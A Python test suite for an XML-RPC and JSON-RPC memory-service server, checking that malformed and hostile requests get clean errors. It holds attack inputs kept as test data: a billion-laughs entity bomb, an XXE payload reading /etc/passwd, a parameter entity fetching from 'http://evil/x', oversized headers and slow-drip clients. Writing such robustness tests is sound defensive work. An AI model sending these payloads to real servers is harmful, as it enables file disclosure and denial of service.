"""Hostile and broken input: every malformed request gets a well-formed error
reply in the server's dialect and the server keeps serving."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import stat
import threading
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rpc_fake import FakeService, serving, short_dir
from test_wire_golden import post, read_response

from squeezed import errors
from squeezed.rpc import CodecError, jsonrpc, xmlrpc
from squeezed.rpc.client import ConnectionFailed, MemoryClient
from squeezed.rpc.dispatch import Dispatcher
from squeezed.rpc.server import JsonRpcServer, SocketInUseError, XmlRpcServer

GOOD_XML = xmlrpc.encode_call("reserve_memory", ["dbg", "xenopsd", 1024])


def xml_call(method: str, *params: str) -> bytes:
    body = "".join(f"<param><value>{p}</value></param>" for p in params)
    return (
        f'<?xml version="1.0"?><methodCall><methodName>{method}</methodName>'
        f"<params>{body}</params></methodCall>"
    ).encode()


def split(reply: bytes) -> tuple[int, dict[str, str], bytes]:
    head, _, body = reply.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1])
    headers = {k.lower(): v.strip() for k, v in (ln.split(":", 1) for ln in lines[1:])}
    assert int(headers["content-length"]) == len(body)
    return status, headers, body


def xml_failure(reply: bytes, status: int = 200) -> str:
    """Assert a well-formed Internal_error reply; return its message."""
    got, _, body = split(reply)
    assert got == status
    kind, err = xmlrpc.parse_response(body)
    assert kind == "Failure" and isinstance(err, list) and err[0] == "Internal_error", err
    return err[1]


def still_serving(path: str) -> None:
    assert split(post(path, GOOD_XML))[2] == xmlrpc.encode_success("res-1")


@pytest.fixture(scope="module")
def xml_server():
    with serving(XmlRpcServer, request_timeout=0.5) as (srv, fake):
        yield srv, fake


@pytest.fixture(scope="module")
def json_server():
    with serving(JsonRpcServer, request_timeout=0.5) as (srv, fake):
        yield srv, fake


def raw(path: str, data: bytes, *, shut: bool = False) -> bytes:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(path)
    try:
        s.sendall(data)
        if shut:
            s.shutdown(socket.SHUT_WR)
        return read_response(s)
    finally:
        s.close()


# ------------------------------------------------------------- bad XML / RPC

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<methodCall><methodName>get_diagnostics</methodName><params><param><value>&lol3;</value>
</param></params></methodCall>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<methodCall><methodName>get_diagnostics</methodName><params><param><value>&xxe;</value>
</param></params></methodCall>"""

BAD_BODIES = {
    "not-xml": b"hello",
    "empty": b"",
    "truncated": GOOD_XML[:-20],
    "wrong-root": b"<methodResponse/>",
    "billion-laughs": BILLION_LAUGHS,
    "external-entity": EXTERNAL_ENTITY,
    "parameter-entity": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/x">%p;]><methodCall/>',
    "undefined-entity": b"<methodCall><methodName>&foo;</methodName></methodCall>",
    "bad-int": xml_call("reserve_memory", "d", "s", "<i8>12x</i8>"),
    "unknown-type": xml_call("get_diagnostics", "<blob>1</blob>"),
    "mixed-content": xml_call("get_diagnostics", "x<string>y</string>"),
    "deep-nesting": xml_call(
        "get_diagnostics", "<array><data><value>" * 200 + "x" + "</value></data></array>" * 200
    ),
    "binary": bytes(range(256)),
    "bad-encoding": b'<?xml version="1.0" encoding="klingon"?><methodCall/>',
    "no-method-name": b"<methodCall><params/></methodCall>",
}


@pytest.mark.parametrize("name", sorted(BAD_BODIES))
def test_bad_xml_gets_error_and_server_survives(name: str, xml_server) -> None:
    srv, fake = xml_server
    fake.calls.clear()
    msg = xml_failure(post(srv.path, BAD_BODIES[name]))
    assert msg.startswith("malformed request")
    assert fake.calls == []  # nothing reached the service
    still_serving(srv.path)


def test_entity_is_never_expanded(xml_server) -> None:
    srv, _ = xml_server
    msg = xml_failure(post(srv.path, EXTERNAL_ENTITY))
    assert "root:" not in msg and "DTD" in msg


@pytest.mark.parametrize(
    "body,message",
    [
        (
            xml_call("reserve_memory", "d", "s"),
            "reserve_memory expects 3 parameters (dbg, session_id, kib), got 2",
        ),
        (xml_call("foo", "d"), "unknown method: foo"),
        (
            xml_call("reserve_memory", "d", "s", "lots"),
            "reserve_memory: parameter kib must be an int64, got 'lots'",
        ),
        (
            xml_call("reserve_memory", "d", "s", "<double>1.5</double>"),
            "reserve_memory: parameter kib must be an int64, got 1.5",
        ),
        (
            xml_call("reserve_memory", "d", "s", "9223372036854775808"),
            "reserve_memory: parameter kib is out of int64 range: 9223372036854775808",
        ),
        (
            xml_call("reserve_memory", "d", "s", "<i8>-9223372036854775809</i8>"),
            "reserve_memory: parameter kib is out of int64 range: -9223372036854775809",
        ),
        (
            xml_call("transfer_reservation_to_domain", "d", "s", "r", "4611686018427387904"),
            "transfer_reservation_to_domain: parameter domid is out of int range: "
            "4611686018427387904",
        ),
        (
            xml_call("login", "d", "<int>5</int>"),
            "login: parameter service_name must be a string, got 5",
        ),
        (
            xml_call("reserve_memory", "d", "s", "<boolean>1</boolean>"),
            "reserve_memory: parameter kib must be an int64, got True",
        ),
        (
            xml_call(
                "Memory.reserve",
                "<struct><member><name>dbg</name><value>d</value></member></struct>",
            ),
            "Memory.reserve expects members (dbg, amount): missing amount",
        ),
    ],
)
def test_bad_calls(body: bytes, message: str, xml_server) -> None:
    srv, fake = xml_server
    fake.calls.clear()
    assert xml_failure(post(srv.path, body)) == message
    assert fake.calls == []
    still_serving(srv.path)


@pytest.mark.parametrize(
    "body,op,args",
    [
        (xml_call("reserve_memory", "d", "s", "1", "2"), "reserve_memory", ("d", "s", 1)),
        (
            xml_call(
                "Memory.balance",
                "<struct><member><name>dbg</name><value>d</value></member>"
                "<member><name>x</name><value>1</value></member></struct>",
            ),
            "balance_memory",
            ("d",),
        ),
    ],
)
def test_extra_parameters_are_ignored_as_rpclib_does(body: bytes, op: str, args: tuple,
                                                     xml_server) -> None:
    srv, fake = xml_server
    fake.calls.clear()
    status, _, reply = split(post(srv.path, body))
    assert status == 200 and xmlrpc.parse_response(reply)[0] == "Success"
    assert fake.calls == [(op, args)]


def test_int64_extremes_pass(xml_server) -> None:
    srv, fake = xml_server
    fake.calls.clear()
    for v in ("9223372036854775807", "-9223372036854775808", "+5", "<i4>7</i4>", "<int> 8 </int>"):
        split(post(srv.path, xml_call("reserve_memory", "d", "s", v)))
    assert [c[1][2] for c in fake.calls] == [2**63 - 1, -(2**63), 5, 7, 8]


def test_service_exceptions_become_internal_error(xml_server) -> None:
    srv, fake = xml_server
    fake.raise_next = RuntimeError("xenstore went away")
    assert xml_failure(post(srv.path, GOOD_XML)) == "xenstore went away"
    fake.results["get_host_reserved_memory"] = "not a number"  # a buggy service
    try:
        msg = xml_failure(post(srv.path, xml_call("get_host_reserved_memory", "d")))
    finally:
        fake.results["get_host_reserved_memory"] = 8192
    assert msg.startswith("get_host_reserved_memory: service returned an invalid result")
    still_serving(srv.path)


# ------------------------------------------------------------- bad HTTP


@pytest.mark.parametrize(
    "data,status",
    [
        (b"GARBAGE\r\n\r\n", 400),
        (b"\x00\x01\x02\xff\r\n\r\n", 400),
        (b"GET / HTTP/1.1\r\n\r\n", 405),
        (b"POST / HTTP/1.1\r\n\r\n", 411),
        (b"POST / HTTP/1.1\r\nContent-Length: abc\r\n\r\n", 400),
        (b"POST / HTTP/1.1\r\nContent-Length: -5\r\n\r\n", 400),
        (b"POST / HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n", 400),
        (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n", 501),
        (b"POST / HTTP/2.0\r\nContent-Length: 0\r\n\r\n", 505),
        (b"POST / HTTP/1.1\r\nContent-Length: 2097152\r\n\r\n", 413),
        (b"POST / HTTP/1.1\r\n" + b"X-A: b\r\n" * 200 + b"\r\n", 431),
        (b"POST /" + b"a" * 70000 + b" HTTP/1.1\r\n\r\n", 414),
    ],
    ids=[
        "garbage",
        "binary",
        "get",
        "no-length",
        "bad-length",
        "negative-length",
        "conflicting-length",
        "chunked",
        "http2",
        "huge-body",
        "many-headers",
        "long-line",
    ],
)
def test_bad_http(data: bytes, status: int, xml_server, json_server) -> None:
    for srv, _ in (xml_server, json_server):
        reply = raw(srv.path, data)
        got, headers, body = split(reply)
        assert got == status
        assert headers["connection"] == "close"
        if srv is xml_server[0]:
            kind, err = xmlrpc.parse_response(body)
        else:
            kind, err = jsonrpc.parse_response(body)
        assert kind == "Failure" and err[0] == "Internal_error" and f"HTTP {status}" in err[1]
    still_serving(xml_server[0].path)


def test_huge_body_through_client(xml_server) -> None:
    """The client sends a 2 MiB request; the server answers 413 without reading it
    and the client still reports the server's error."""
    srv, _ = xml_server
    with pytest.raises(errors.InternalError, match="HTTP 413"):
        MemoryClient(srv.path).call("get_diagnostics", "x" * (2 << 20))
    still_serving(srv.path)


def test_bad_json(json_server) -> None:
    srv, fake = json_server
    fake.calls.clear()
    deep = b'{"method":"get_diagnostics","params":' + b"[" * 100000 + b"]" * 100000 + b',"id":1}'
    for body in (
        b"nope",
        b"[1,2]",
        b'{"method":5,"params":[],"id":1}',
        b'{"method":"get_diagnostics","params":"x","id":1}',
        b'{"method":"get_diagnostics","params":[NaN],"id":1}',
        b'{"method":"get_diagnostics","params":[' + b"1" * 5000 + b'],"id":1}',
        b"\xff\xfe",
        deep,
    ):
        _, _, reply = split(post(srv.path, body))
        kind, err = jsonrpc.parse_response(reply)
        assert kind == "Failure" and err[0] == "Internal_error", body[:40]
        assert err[1].startswith("malformed request")
    assert fake.calls == []
    _, _, reply = split(
        post(srv.path, b'{"method":"reserve_memory","params":["d","s",true],"id":3}')
    )
    assert jsonrpc.loads(reply) == {
        "result": None,
        "error": ["Internal_error", "reserve_memory: parameter kib must be an int64, got True"],
        "id": 3,
    }


def test_json_named_params_and_v2(json_server) -> None:
    srv, fake = json_server
    fake.calls.clear()
    for body in (
        b'{"method":"reserve_memory","params":[{"dbg":"d","session_id":"s","kib":"5"}],"id":1}',
        b'{"jsonrpc":"2.0","method":"reserve_memory",'
        b'"params":{"dbg":"d","session_id":"s","kib":5},"id":"x"}',
    ):
        _, _, reply = split(post(srv.path, body))
        assert jsonrpc.parse_response(reply) == ("Success", "res-1")
    assert fake.calls == [("reserve_memory", ("d", "s", 5))] * 2


def test_raw_json_tricky_and_split(json_server) -> None:
    srv, fake = json_server
    fake.results["login"] = None
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(srv.path)
    try:
        msg = b'{"method":"login","params":["d","a}b\\"{["],"id":1}'
        for i in range(0, len(msg), 7):  # dribble it in
            s.sendall(msg[i : i + 7])
            time.sleep(0.01)
        data = b""
        while not data.endswith(b"\n"):
            data += s.recv(4096)
        assert jsonrpc.parse_response(data) == ("Success", 'a}b"{[')
        # and the same connection carries another (HTTP) request afterwards
        s.sendall(b"POST / HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}")
        assert split(read_response(s))[0] == 200
    finally:
        s.close()


# ------------------------------------------------------------- connections


def test_keep_alive_and_connection_close(xml_server) -> None:
    srv, _ = xml_server
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(srv.path)
    try:
        req = b"POST / HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % len(GOOD_XML) + GOOD_XML
        for _ in range(3):
            s.sendall(req)
            assert "connection" not in split(read_response(s))[1]
        s.sendall(req.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n", 1))
        assert split(read_response(s))[1]["connection"] == "close"
        assert s.recv(10) == b""  # the server closed it
    finally:
        s.close()


def test_client_keep_alive(xml_server) -> None:
    srv, _ = xml_server
    with MemoryClient(srv.path, keep_alive=True) as c:
        assert c.call("reserve_memory", "d", "s", 1) == "res-1"
        first = c._sock
        assert first is not None
        assert c.call("reserve_memory", "d", "s", 1) == "res-1"
        assert c._sock is first


def test_idle_keepalive_closed_quietly_and_client_reconnects(xml_server) -> None:
    """An idle connection is closed after the timeout without an unsolicited
    reply (which a keep-alive client would take for its next answer), and the
    client transparently reconnects."""
    srv, _ = xml_server
    idle = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    idle.settimeout(5)
    idle.connect(srv.path)
    with MemoryClient(srv.path, keep_alive=True) as c:
        assert c.call("reserve_memory", "d", "s", 1) == "res-1"
        time.sleep(0.8)  # > request_timeout: the server drops both connections
        assert idle.recv(100) == b""
        assert c.call("reserve_memory", "d", "s", 1) == "res-1"
    idle.close()


def test_slow_client_does_not_block_others() -> None:
    """Half a request then silence: others are served meanwhile (well before
    the staller's timeout), and the staller is answered 408 and cut off."""
    with serving(XmlRpcServer, request_timeout=3.0) as (srv, _):
        _slow_client_checks(srv)


def _slow_client_checks(srv) -> None:
    slow = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    slow.settimeout(10)
    slow.connect(srv.path)
    try:
        slow.sendall(b"POST / HTTP/1.1\r\nContent-Length: 500\r\n\r\n<?xml")
        t0 = time.monotonic()
        still_serving(srv.path)
        assert time.monotonic() - t0 < 2.5  # not held up by the staller
        reply = read_response(slow)
        assert 2.5 < time.monotonic() - t0 < 8
        assert "not received in time" in xml_failure(reply, 408)
        assert slow.recv(10) == b""
    finally:
        slow.close()


def test_trickling_client_is_cut_off(json_server) -> None:
    """A byte every 0.1 s never trips a per-read timeout, but the per-request
    deadline (0.5 s here) still cuts the client off with a 408."""
    srv, _ = json_server
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(srv.path)
    t0 = time.monotonic()
    data = b""
    try:
        with pytest.raises(OSError):  # EPIPE once the server has hung up
            for b in b"POST / HTTP/1.1\r\nX-Slow: " + b"a" * 100:
                s.sendall(bytes([b]))
                time.sleep(0.1)
        with contextlib.suppress(OSError):
            while chunk := s.recv(4096):
                data += chunk
    finally:
        s.close()
    assert time.monotonic() - t0 < 3
    assert data.startswith(b"HTTP/1.1 408 ")


def test_max_connections(tmp_path) -> None:
    with serving(XmlRpcServer, max_connections=2, request_timeout=2.0,
                 slot_wait_s=0.1) as (srv, _):
        idle = []
        for _ in range(2):  # requests begun, then stalled: each holds a slot
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(srv.path)
            s.sendall(b"P")
            idle.append(s)
        deadline = time.monotonic() + 5
        while srv._server.slots._value:  # both slots taken
            assert time.monotonic() < deadline
            time.sleep(0.01)
        try:
            with pytest.raises(errors.InternalError, match="server busy"):
                MemoryClient(srv.path).call("reserve_memory", "d", "s", 1)
        finally:
            for s in idle:
                s.close()
        deadline = time.monotonic() + 2
        while True:  # slots come back once the handlers notice the close
            try:
                assert MemoryClient(srv.path).call("reserve_memory", "d", "s", 1) == "res-1"
                break
            except errors.InternalError:
                assert time.monotonic() < deadline
                time.sleep(0.02)


def test_many_concurrent_clients(xml_server) -> None:
    srv, _ = xml_server
    results: list[object] = []

    def worker() -> None:
        for _ in range(5):
            results.append(MemoryClient(srv.path).call("reserve_memory", "d", "s", 1))

    threads = [threading.Thread(target=worker) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert results == ["res-1"] * 40


# ------------------------------------------------------------- socket file


def test_socket_mode_group_and_cleanup() -> None:
    with serving(XmlRpcServer) as (srv, _):
        st_ = os.stat(srv.path)
        assert stat.S_ISSOCK(st_.st_mode) and stat.S_IMODE(st_.st_mode) == 0o600
        path = srv.path
    assert not os.path.exists(path)
    with serving(XmlRpcServer, mode=0o660, group=os.getgid()) as (srv, _):
        st_ = os.stat(srv.path)
        assert stat.S_IMODE(st_.st_mode) == 0o660 and st_.st_gid == os.getgid()


def test_stale_socket_replaced_live_one_kept() -> None:
    with short_dir() as d:
        path = f"{d}/memory"
        dead = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        dead.bind(path)
        dead.close()  # a stale socket file: nobody listening
        with XmlRpcServer(path, Dispatcher(FakeService())) as srv:
            still_serving(srv.path)
            with pytest.raises(SocketInUseError, match="another server"):
                XmlRpcServer(path, Dispatcher(FakeService())).start()
            still_serving(srv.path)  # not stolen
        assert not os.path.exists(path)
        with open(path, "w") as f:
            f.write("precious")
        with pytest.raises(SocketInUseError, match="not a socket"):
            XmlRpcServer(path, Dispatcher(FakeService())).start()
        assert open(path).read() == "precious"


def test_shutdown_keeps_a_successors_socket() -> None:
    with short_dir() as d:
        path = f"{d}/memory"
        old = XmlRpcServer(path, Dispatcher(FakeService()))
        old.start()
        os.unlink(path)  # someone else took over the path
        with XmlRpcServer(path, Dispatcher(FakeService())):
            old.shutdown()
            still_serving(path)


def test_client_connection_failures() -> None:
    with short_dir() as d:
        with pytest.raises(ConnectionFailed, match="No such file"):
            MemoryClient(f"{d}/absent").call("balance_memory", "d")
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(f"{d}/stale")
        s.close()
        with pytest.raises(ConnectionFailed, match="refused"):
            MemoryClient(f"{d}/stale").call("balance_memory", "d")


def test_shutdown_drops_idle_keepalive_connections() -> None:
    with serving(XmlRpcServer) as (srv, _):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(5)
        s.connect(srv.path)
        s.sendall(b"POST / HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % len(GOOD_XML) + GOOD_XML)
        assert split(read_response(s))[0] == 200  # a live keep-alive connection
        t0 = time.monotonic()
        srv.shutdown()
        assert s.recv(10) == b""
        assert time.monotonic() - t0 < 3
        s.close()


# ------------------------------------------------------------- fuzzing

FUZZ = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
FUZZ_VALUES = settings(FUZZ, max_examples=120)  # recursive values cost more to generate

XML_TOKENS = st.sampled_from(
    [
        "<methodCall>",
        "</methodCall>",
        "<methodName>",
        "</methodName>",
        "<params>",
        "</params>",
        "<param>",
        "</param>",
        "<value>",
        "</value>",
        "<array>",
        "</array>",
        "<data>",
        "</data>",
        "<struct>",
        "</struct>",
        "<member>",
        "</member>",
        "<name>",
        "</name>",
        "<i8>",
        "</i8>",
        "<int>",
        "</int>",
        "<boolean>",
        "</boolean>",
        "<double>",
        "</double>",
        "<string>",
        "</string>",
        "<nil/>",
        "<base64>",
        "</base64>",
        "x",
        "1",
        "-",
        "&amp;",
        "&#0;",
        " ",
        "<methodResponse>",
        "</methodResponse>",
        "<fault>",
        "</fault>",
        '<?xml version="1.0"?>',
        "<!DOCTYPE a>",
        "]]>",
        "<![CDATA[",
    ]
)


@FUZZ
@given(st.binary(max_size=2000))
def test_fuzz_codecs_raise_only_codec_errors(data: bytes) -> None:
    for fn in (
        xmlrpc.parse_call,
        xmlrpc.parse_response,
        xmlrpc.parse_value,
        jsonrpc.parse_call,
        jsonrpc.parse_response,
    ):
        try:
            fn(data)
        except CodecError:
            pass


@FUZZ
@given(st.lists(XML_TOKENS, max_size=60).map("".join))
def test_fuzz_xmlish_raises_only_codec_errors(text: str) -> None:
    for fn in (xmlrpc.parse_call, xmlrpc.parse_response):
        try:
            fn(text.encode())
        except CodecError:
            pass


WIRE = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**63), max_value=2**63 - 1)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=20,
)


def _as_received(v: object) -> object:
    """What a value looks like after an XML-RPC trip: ints untyped -> strings,
    strings lose the control characters XML cannot carry, CR becomes LF, and
    doubles keep 16 significant digits."""
    if isinstance(v, bool) or v is None:
        return v
    if isinstance(v, float):
        return float(f"{v:.16g}")  # rpclib's %.16g: at most 16 significant digits
    if isinstance(v, int):
        return str(v)
    if isinstance(v, str):
        # rpclib drops the C0 controls XML 1.0 cannot carry (all but tab, LF, CR);
        # an XML parser turns CR LF and lone CR into LF (XML 1.0 section 2.11).
        s = "".join(c for c in v if c >= " " or c in "\t\n\r")
        return s.replace("\r\n", "\n").replace("\r", "\n")
    if isinstance(v, list):
        return [_as_received(x) for x in v]
    assert isinstance(v, dict)
    out: dict = {}
    for k, x in v.items():  # keys may collide once stripped: the first wins
        out.setdefault(_as_received(k), _as_received(x))
    return out


def _stdlib_value(el) -> object:
    """An XML-RPC <value> decoded with the standard library's parser: an
    oracle independent of our codec."""
    children = list(el)
    if not children:
        return el.text or ""  # untyped: a string (ints travel untyped, as rpclib)
    (child,) = children
    tag, text = child.tag, child.text or ""
    if tag == "nil":
        return None
    if tag == "boolean":
        return text == "1"
    if tag == "double":
        return float(text)
    if tag in ("string",):
        return text
    if tag == "array":
        (data,) = list(child)
        return [_stdlib_value(x) for x in data]
    assert tag == "struct", tag
    out: dict = {}
    for member in child:
        name, value = member.find("name"), member.find("value")
        out.setdefault(name.text or "", _stdlib_value(value))
    return out


def _xml_representable(text: str) -> bool:
    return not any(0xD800 <= ord(c) <= 0xDFFF or ord(c) in (0xFFFE, 0xFFFF) for c in text)


@FUZZ_VALUES
@given(WIRE)
def test_fuzz_xml_roundtrip(v: object) -> None:
    import xml.etree.ElementTree as ET

    text = xmlrpc.encode_value(v)
    if not _xml_representable(text):
        # XML 1.0 cannot carry these characters: our parser must refuse them
        with pytest.raises(CodecError):
            xmlrpc.parse_value(text.encode())
        return
    expected = _as_received(v)
    # the encoder, checked by the standard library's parser ...
    assert _stdlib_value(ET.fromstring(text)) == expected
    # ... and our parser, against the same hand-derived expectation
    assert xmlrpc.parse_value(text.encode()) == expected


@FUZZ_VALUES
@given(WIRE)
def test_fuzz_json_roundtrip(v: object) -> None:
    # every WIRE value (finite floats, no surrogates) must encode: no escape hatch
    body = jsonrpc.encode_success(v, 1)
    assert json.loads(body) == {"result": v, "error": None, "id": 1}  # stdlib oracle
    assert jsonrpc.parse_response(body) == ("Success", v)


_FUZZ_DISPATCHER = Dispatcher(FakeService())


@FUZZ_VALUES
@given(
    st.sampled_from(sorted(Dispatcher(FakeService()).methods) + ["nope"]),
    st.lists(WIRE, max_size=5),
)
def test_fuzz_dispatch_raises_only_memory_errors(method: str, params: list) -> None:
    try:
        _FUZZ_DISPATCHER.call(method, params)
    except errors.MemoryInterfaceError as e:
        xmlrpc.encode_failure(e.wire())  # and the error is always encodable
        jsonrpc.encode_failure(e.wire(), 1)


def test_a_caller_beyond_the_cap_waits_for_a_slot(tmp_path) -> None:
    with serving(XmlRpcServer, max_connections=1, request_timeout=5.0) as (srv, _):
        idle = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        idle.connect(srv.path)
        idle.sendall(b"P")  # a request begun: it holds the only slot
        deadline = time.monotonic() + 5
        while srv._server.slots._value:
            assert time.monotonic() < deadline
            time.sleep(0.01)
        threading.Timer(0.3, idle.close).start()  # the slot frees up a little later
        t0 = time.monotonic()
        assert MemoryClient(srv.path).call("reserve_memory", "d", "s", 1) == "res-1"
        assert time.monotonic() - t0 >= 0.25  # it waited instead of being refused


def test_bare_json_objects_separated_by_whitespace(json_server) -> None:
    srv, _ = json_server
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(srv.path)
    s.settimeout(5)
    req = b'{"method":"get_host_reserved_memory","params":["d"],"id":%d}'
    s.sendall(b"\n  " + (req % 1) + b"\n" + (req % 2) + b"\n")
    data = b""
    while data.count(b"\n") < 2:
        chunk = s.recv(65536)
        assert chunk, data
        data += chunk
    s.close()
    replies = [json.loads(line) for line in data.splitlines() if line.strip()]
    assert [r["id"] for r in replies] == [1, 2]
    assert all(r["error"] is None for r in replies)


def test_keepalive_never_blindly_retries_a_reservation(xml_server, monkeypatch) -> None:
    """If a kept-alive connection dies mid-call, a reserve is not sent twice."""
    from squeezed.rpc import client as client_mod

    srv, fake = xml_server
    with MemoryClient(srv.path, keep_alive=True) as c:
        assert c.call("get_host_reserved_memory", "d") is not None
        monkeypatch.setattr(client_mod, "_closed_by_peer", lambda sock: False)
        c._sock.shutdown(socket.SHUT_RDWR)  # dies under the next call
        with pytest.raises(ConnectionFailed, match="not retried"):
            c.call("reserve_memory", "d", "s", 1)


@pytest.mark.parametrize("transport", ["xml-http", "json-http", "json-bare"])
def test_unknown_method_answered_on_every_transport(transport: str, xml_server,
                                                    json_server) -> None:
    """Upstream closes the connection without a reply; we answer Internal_error
    (docs/compatibility.md)."""
    if transport == "xml-http":
        srv, _ = xml_server
        reply = post(srv.path, xml_call("no_such_method", "d"))
        assert xml_failure(reply) == "unknown method: no_such_method"
        return
    srv, _ = json_server
    body = b'{"method":"no_such_method","params":["d"],"id":3}'
    if transport == "json-http":
        status, _, data = split(post(srv.path, body))
        assert status == 200
    else:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(10)
        s.connect(srv.path)
        s.sendall(body)
        data = b""
        while not data.endswith(b"\n"):
            chunk = s.recv(4096)
            assert chunk, data
            data += chunk
        s.close()
    reply = json.loads(data)
    assert reply == {"result": None, "error": ["Internal_error", "unknown method: no_such_method"],
                     "id": 3}
